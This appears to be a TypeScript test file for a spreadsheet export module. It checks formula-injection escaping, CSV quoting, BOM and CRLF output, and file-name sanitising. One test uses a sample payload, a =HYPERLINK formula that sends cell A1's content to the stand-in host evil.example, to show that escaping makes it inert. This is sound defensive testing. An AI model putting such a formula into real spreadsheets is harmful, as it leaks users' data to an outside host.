import { csvField, escapeSpreadsheetCell, fileNamePart, isFormulaLike, toCsv, toSheetRows, UTF8_BOM } from '../cells.ts';

describe('spreadsheet cell escaping (ASVS 5.0 §1.2.10)', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('escapes text starting with %j', (trigger) => {
    expect(escapeSpreadsheetCell(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
    expect(isFormulaLike(`${trigger}x`)).toBe(true);
  });

  it('makes =HYPERLINK(...) inert in CSV and XLSX rows', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")';
    const csv = toCsv(['Ad'], [[evil]]);
    const dataLine = csv.slice(UTF8_BOM.length).split('\r\n')[1];
    expect(dataLine).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Tıkla"")"`);
    expect(dataLine.startsWith('"\'=')).toBe(true);
    expect(toSheetRows(['Ad'], [[evil]])[1][0]).toBe(`'${evil}`);
  });

  it('keeps numbers typed, negative numbers included, and plain text unchanged', () => {
    expect(escapeSpreadsheetCell(-5)).toBe(-5);
    expect(escapeSpreadsheetCell(12.5)).toBe(12.5);
    expect(escapeSpreadsheetCell(Number.NaN)).toBe('');
    expect(escapeSpreadsheetCell(null)).toBe('');
    expect(escapeSpreadsheetCell(undefined)).toBe('');
    expect(escapeSpreadsheetCell(true)).toBe(true);
    expect(escapeSpreadsheetCell('Çağla Öztürk')).toBe('Çağla Öztürk');
    expect(escapeSpreadsheetCell('a=b')).toBe('a=b');
    expect(escapeSpreadsheetCell('')).toBe('');
  });

  it('quotes CSV fields with separators, quotes and line breaks', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('x\ny')).toBe('"x\ny"');
    expect(csvField(3)).toBe('3');
  });

  it('writes UTF-8 with a BOM and CRLF lines', () => {
    const csv = toCsv(['Öğrenci', 'Puan'], [['Şule Işık', 42], ['-1', -1]]);
    expect(csv.startsWith('\uFEFFÖğrenci,Puan\r\n')).toBe(true);
    expect(csv).toBe('\uFEFFÖğrenci,Puan\r\nŞule Işık,42\r\n\'-1,-1\r\n');
  });

  it('builds file-name-safe parts', () => {
    expect(fileNamePart(' Ali  Yıldız ')).toBe('Ali_Yıldız');
    expect(fileNamePart('a/b:c')).toBe('abc');
  });
});
